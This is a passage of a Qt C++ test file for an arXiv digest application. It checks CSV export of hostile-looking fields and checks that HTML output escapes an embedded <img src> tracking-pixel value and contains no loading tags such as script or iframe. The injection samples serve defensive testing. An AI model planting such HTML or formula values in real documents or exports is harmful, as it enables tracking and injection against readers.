            << u"Self-similar a=b, x+y @ 2 -3"_s;
        QTest::newRow("apostrophe first") << u"'quoted'"_s << u"'quoted'"_s << u"'quoted'"_s;
    }
    void csvHostileFields()
    {
        QFETCH(QString, text);
        QFETCH(QString, line);
        QFETCH(QString, note);
        DigestEntry e;
        e.paper.arxivId = u"2603.17001"_s;
        e.paper.version = 2;
        e.paper.title = text;
        e.paper.authors = {text, u"Ann Lee"_s};
        e.paper.categories = {u"cs.LG"_s};
        Score s;
        s.arxivId = e.paper.arxivId;
        s.version = 2;
        s.relevance = 9;
        s.novelty = 8;
        s.comment = text;
        s.model = u"gpt-5"_s;
        e.score = s;
        e.state.arxivId = e.paper.arxivId;
        e.state.tags = {text, u"to-read"_s};
        e.state.note = text;
        Digest d;
        d.run.date = kDay;
        d.entries = {e};

        QString error;
        const auto rows = Test::readCsv(QString::fromUtf8(DigestCsv::write({d}).mid(3)), &error);
        QVERIFY2(error.isEmpty(), qPrintable(error));
        QCOMPARE(rows.size(), 2);
        const QStringList &f = rows[1].fields;
        QCOMPARE(f.size(), 14);
        QCOMPARE(f[Id], u"2603.17001"_s);
        QCOMPARE(f[Version], u"2"_s);
        QCOMPARE(f[Title], line);
        QCOMPARE(f[Authors], line + u"; Ann Lee"_s);
        QCOMPARE(f[Relevance], u"9"_s);
        QCOMPARE(f[Novelty], u"8"_s);
        QCOMPARE(f[Comment], line);
        QCOMPARE(f[Tags], line + u"; to-read"_s);
        QCOMPARE(f[Note], note);
        QCOMPARE(f[Url], u"https://arxiv.org/abs/2603.17001"_s);
    }

    void csvNumbersStayNumbers()
    {
        DigestEntry e;
        e.paper.arxivId = u"2603.17001"_s;
        e.paper.version = 3;
        Score s;
        s.relevance = -2; // out of the scale, but a number: no apostrophe, no quotes
        s.novelty = 10;
        s.model = u"lectern-local"_s;
        e.score = s;
        Digest d;
        d.run.date = kDay;
        d.entries = {e};
        QString error;
        const auto rows = Test::readCsv(QString::fromUtf8(DigestCsv::write({d}).mid(3)), &error);
        QVERIFY2(error.isEmpty(), qPrintable(error));
        QCOMPARE(rows.size(), 2);
        const Test::CsvRecord &r = rows[1];
        QCOMPARE(r.fields[Version], u"3"_s);
        QCOMPARE(r.fields[Relevance], u"-2"_s);
        QCOMPARE(r.fields[Novelty], u"10"_s);
        QVERIFY(!r.quoted[Version] && !r.quoted[Relevance] && !r.quoted[Novelty]);
        QCOMPARE(r.fields[ScoredBy], u"lectern-local"_s);
    }

    void htmlIsSelfContained()
    {
        const Digest d = dayDigest();
        const QString html =
            DigestHtml::render({d}, {u"Title"_s, u"Ann Author"_s, false, std::nullopt, true});
        QVERIFY(html.startsWith(u"<!DOCTYPE html>"_s));
        QVERIFY(html.contains(u"<style>"_s));
        QVERIFY(html.contains(u"<meta name=\"author\" content=\"Ann Author\"/>"_s));
        // No element that loads anything: the abstract's <img> and <link> are shown as text.
        for (const QString &tag :
            {u"<img"_s, u"<link"_s, u"<script"_s, u"<iframe"_s, u"<object"_s, u"<embed"_s})
            QVERIFY2(!html.contains(tag, Qt::CaseInsensitive), qPrintable(tag));
        QVERIFY(html.contains(u"&lt;img src=&quot;http://127.0.0.1:9/pixel.png&quot;&gt;"_s));
        // Every element Lectern writes is one of a few that load nothing; no src attribute anywhere; every
        // href is a paper's arXiv page or an anchor of this page. (Paper text cannot add elements: its "<"
        // is escaped, which the check on the <img> text above shows.)
        static const QRegularExpression tagRe(u"<([a-zA-Z0-9]+)([^>]*)>"_s);
        static const QRegularExpression attrRe(u"([a-zA-Z-]+)\\s*=\\s*\"([^\"]*)\""_s);
        static const QRegularExpression paperLink(uR"(^https://arxiv\.org/(abs|pdf)/\d{4}\.\d{5}(v\d+)?$)"_s);
        const QSet<QString> allowed {u"html"_s, u"head"_s, u"meta"_s, u"title"_s, u"style"_s, u"body"_s,
            u"h1"_s, u"h2"_s, u"h3"_s, u"p"_s, u"a"_s, u"b"_s, u"i"_s, u"br"_s, u"span"_s, u"hr"_s,
            u"table"_s, u"tr"_s, u"td"_s, u"pre"_s, u"sub"_s, u"sup"_s};
        QSet<QString> targets;
        int external = 0;
        for (auto it = tagRe.globalMatch(html); it.hasNext();) {
            const auto tag = it.next();
            QVERIFY2(allowed.contains(tag.captured(1).toLower()), qPrintable(tag.captured(0)));
            for (auto a = attrRe.globalMatch(tag.captured(2)); a.hasNext();) {
                const auto attribute = a.next();
                const QString name = attribute.captured(1).toLower();
                QVERIFY2(name != u"src"_s && name != u"style"_s && name != u"background"_s,
                    qPrintable(tag.captured(0)));
                if (name != u"href"_s)
                    continue;
                const QString target = attribute.captured(2);
                if (target.startsWith(u'#')) {
                    targets.insert(target.mid(1));
                    continue;
                }
                QVERIFY2(paperLink.match(target).hasMatch(), qPrintable(target));
                ++external;
            }
        }
        QCOMPARE(external, 2 * int(d.entries.size()));
        QCOMPARE(targets.size(), int(d.entries.size()));
        for (const QString &anchor : std::as_const(targets))
            QVERIFY2(html.contains(u"name=\""_s + anchor + u'"'), qPrintable(anchor));
        // Display text: TeX as Unicode, escaped.
        QVERIFY(html.contains(u"Bells &amp; Whistles: 100% Coverage of x₁ Rows"_s));
        QVERIFY(html.contains(u"Díaz Campanero"_s));
        QVERIFY(html.contains(u"Ask the authors for the tower list.<br/>check tower 12 &amp; 13"_s));
        QVERIFY(!html.contains(u"lectern:"_s)); // not interactive
        QVERIFY(html.contains(
            u"<tr><td><b><i>[gpt-5]</i></b></td><td><b>Prompt</b></td><td><b>Completion</b></td>"
            u"<td><b>Total</b></td></tr>"_s));
        QVERIFY(html.contains(u"<tr><td><b>Token</b></td><td>31250</td><td>27480</td><td>58730</td></tr>"_s));
        QVERIFY(html.contains(u"<tr><td><b>Cost</b></td><td>-</td><td>-</td><td>$0.31</td></tr>"_s));
        QVERIFY(html.contains(
            u"Total arXiv papers: 412<br/>Total scanned papers: 233<br/>Total relevant papers: 6"_s));
        QVERIFY(html.contains(u"<h2>Paper Selection Prompt</h2>"_s));
        QVERIFY(html.contains(u"Change ringing &lt;methods &amp; extents&gt;"_s));
    }

    void htmlSeveralDaysKeepAnchorsApart()
    {
        Digest other = dayDigest();
        other.run.date = kOtherDay;
        const QString html = DigestHtml::render({dayDigest(), other});
        QVERIFY(html.contains(u"href=\"#link1-2026-03-17\""_s));
        QVERIFY(html.contains(u"name=\"link1-2026-03-18\""_s));
        QVERIFY(html.contains(u"href=\"#day-2026-03-18\""_s));
        QVERIFY(!html.contains(u"name=\"link1\""_s));
    }

    void htmlInteractiveLinks()
    {
        DigestHtmlOptions options;
        options.interactive = true;
        options.navigation = DigestHtmlOptions::Navigation {QDate(2026, 3, 16), QDate(), true};
        const QString html = DigestHtml::render({dayDigest()}, options);
        QVERIFY(html.contains(u"href=\"lectern:star?id=2603.17003&amp;starred=0\">★ Unstar"_s));
        QVERIFY(html.contains(u"href=\"lectern:star?id=2603.17002&amp;starred=1\">☆ Star"_s));
        QVERIFY(html.contains(u"href=\"lectern:note?id=2603.17006\">✎ Edit note"_s));
        QVERIFY(html.contains(u"href=\"lectern:day?date=2026-03-16\""_s));
        QVERIFY(html.contains(u"href=\"lectern:month?month=2026-03\""_s));
        QVERIFY(html.contains(u"Next day →</p>"_s)); // no link: there is no later day
        QCOMPARE(QUrlQuery(DigestHtml::starUrl(u"hep-th/9901001"_s, true))
                     .queryItemValue(u"id"_s, QUrl::FullyDecoded),
            u"hep-th/9901001"_s);
    }

    void monthlyOverview()
    {
        Test::TempProfileDir dir;
        auto store = populatedStore(dir);
        auto month = MonthlyOverview::fromStore(*store, 2026, 3, settings());
        QVERIFY2(month.ok(), qPrintable(month.error()));
        QCOMPARE(month->name(), u"2026-03"_s);
        QCOMPARE(month->days.size(), 3);
        QCOMPARE(month->days[0].date, kDay);
        QCOMPARE(month->days[2].date, kEmptyDay);
        QCOMPARE(month->totalArxiv(), 3 * 412);
        QCOMPARE(month->totalRelevant(), 12);
        QCOMPARE(month->days[0].relevant, 6);
        QCOMPARE(month->days[2].relevant, 0);
        // Top three by relevance + novelty; the author match is not one of them.
        QStringList top;
        for (const DigestEntry &e : month->days[0].top)
            top << e.paper.arxivId;
        QCOMPARE(top, ids(kDay, {2, 3, 4}));
        QVERIFY(month->days[2].top.isEmpty());

        const QString md = month->markdown();
        QVERIFY(md.startsWith(u"# Monthly Overview 2026-03\n\n"_s));
        QVERIFY(
            md.contains(u"Days: 3 · Total arXiv papers: 1236 · Total scanned papers: 699 · Total relevant "
                        u"papers: 12 · Total cost: $0.68\n"_s));
        QVERIFY(md.contains(u"| [2026-03-17](digest-2026-03-17.md) | 412 | 233 | 6 | $0.31 |\n"_s));
        QVERIFY(md.contains(u"| [2026-03-19](digest-2026-03-19.md) | 412 | 233 | 0 | $0.05 |\n"_s));
        QVERIFY(md.contains(
            u"## [2026-03-18](digest-2026-03-18.md)\n\n"
            u"1. [A Complete Theory of Stedman Triples](https://arxiv.org/abs/2603.18002) — "
            u"Relevance 10, Novelty 7\n"
            u"2. [Bells & Whistles: 100% Coverage of $x_1$ Rows](https://arxiv.org/abs/2603.18003) — "
            u"Relevance 9, Novelty 8\n"
            u"3. [Sets {A, B} and \\#hash\\_tags in Ringing](https://arxiv.org/abs/2603.18004) — "
            u"Relevance 9, Novelty 8\n"_s));
        QVERIFY(!md.contains(u"2026-04"_s));

        const QString html = month->html([](const QDate &d) { return DigestHtml::dayUrl(d).toString(); });
        QVERIFY(html.contains(u"<h1>Monthly Overview 2026-03</h1>"_s));
        QVERIFY(html.contains(u"href=\"lectern:day?date=2026-03-18\""_s));
        QVERIFY(html.contains(u"href=\"https://arxiv.org/abs/2603.17002\""_s));

        auto empty = MonthlyOverview::fromStore(*store, 2026, 5, settings());
        QVERIFY(empty.ok());
        QVERIFY(empty->days.isEmpty());
        QVERIFY(empty->markdown().contains(u"No days stored for this month."_s));
    }

    void personNames_data()
    {
        QTest::addColumn<QString>("name");
        QTest::addColumn<QString>("familyFirst");
        QTest::newRow("plain") << u"Ivy Treble"_s << u"Treble, Ivy"_s;
        QTest::newRow("affiliation") << u"M. Oskarsdottir (Institute, Akureyri)"_s << u"Oskarsdottir, M."_s;
        QTest::newRow("particle") << u"Ludwig van Beethoven"_s << u"van Beethoven, Ludwig"_s;
        QTest::newRow("two particles") << u"Jean de la Fontaine"_s << u"de la Fontaine, Jean"_s;
        QTest::newRow("family first") << u"Smith, John"_s << u"Smith, John"_s;
        QTest::newRow("suffix") << u"John Smith Jr."_s << u"Smith, John, Jr."_s;
        QTest::newRow("tex accent") << u"D\\'iaz Campanero"_s << u"Campanero, Díaz"_s;
        QTest::newRow("single name") << u"Bayan"_s << u"Bayan"_s;
    }
    void personNames()
    {
        QFETCH(QString, name);
        QFETCH(QString, familyFirst);
        QCOMPARE(PersonName::parse(name).familyFirst(), familyFirst);
    }
};

QTEST_GUILESS_MAIN(TestDigestExports)
#include "test_digestexports.moc"
